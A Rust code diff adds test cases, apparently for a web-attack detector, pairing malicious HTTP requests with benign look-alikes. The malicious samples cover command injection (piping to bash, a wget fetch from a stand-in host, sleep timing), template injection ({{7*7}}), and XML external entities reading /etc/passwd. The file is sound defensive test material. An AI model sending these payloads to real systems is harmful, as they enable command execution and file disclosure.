@@ -64,6 +64,44 @@ const CASES: &[Case] = &[
             b"GET /item?p=boys%27%20%231 HTTP/1.1\r\nHost: x\r\n\r\n",
         ],
     ),
+    (
+        "command-injection",
+        &[
+            b"GET /item?p=%7Cbash%20-c%20id HTTP/1.1\r\nHost: x\r\n\r\n",
+            b"GET /item?p=1;bash HTTP/1.1\r\nHost: x\r\n\r\n",
+            b"GET /item?p=1%20;%20wget%20http://x/a HTTP/1.1\r\nHost: x\r\n\r\n",
+            b"GET /item?p=x;%20sleep%205 HTTP/1.1\r\nHost: x\r\n\r\n",
+        ],
+        &[
+            b"GET /item?p=python;docker;bash HTTP/1.1\r\nHost: x\r\n\r\n",
+            b"GET /item?p=AT%26T;%20more%205 HTTP/1.1\r\nHost: x\r\n\r\n",
+            b"GET /item?p=Curly%20hair%20%7C%20Curl%20Kit HTTP/1.1\r\nHost: x\r\n\r\n",
+            b"GET /item?p=Q%26A%20%7C%20Bash HTTP/1.1\r\nHost: x\r\n\r\n",
+            b"GET /matomo.php?action_name=Volumes%20%7C%20Docker%20Docs&idsite=1&rec=1 HTTP/1.1\r\nHost: x\r\n\r\n",
+        ],
+    ),
+    (
+        "template-injection",
+        &[
+            b"GET /item?p=%7B%7B7*7%7D%7D HTTP/1.1\r\nHost: x\r\n\r\n",
+            b"GET /item?p=%7B%7B191-7*7%7D%7D HTTP/1.1\r\nHost: x\r\n\r\n",
+        ],
+        &[
+            b"GET /item?p=%5B%5B2024-01-01%5D%5D HTTP/1.1\r\nHost: x\r\n\r\n",
+            b"GET /item?p=page%20%7B%7B1-2%7D%7D HTTP/1.1\r\nHost: x\r\n\r\n",
+        ],
+    ),
+    (
+        "xml-external-entity",
+        &[
+            b"POST / HTTP/1.1\r\nHost: x\r\n\r\n<!DOCTYPE r SYSTEM \"file:///etc/passwd\"><r/>",
+            b"POST / HTTP/1.1\r\nHost: x\r\n\r\n<!DOCTYPE r SYSTEM \"http://x.example/a\"><r/>",
+        ],
+        &[
+            b"POST / HTTP/1.1\r\nHost: x\r\n\r\n<?xml version=\"1.0\"?><!DOCTYPE cXML SYSTEM \"http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd\"><cXML/>",
+            b"POST / HTTP/1.1\r\nHost: x\r\n\r\n<!DOCTYPE plist SYSTEM \"file://localhost/System/Library/DTDs/PropertyList.dtd\"><plist/>",
+        ],
+    ),
 ];
 
 #[test]
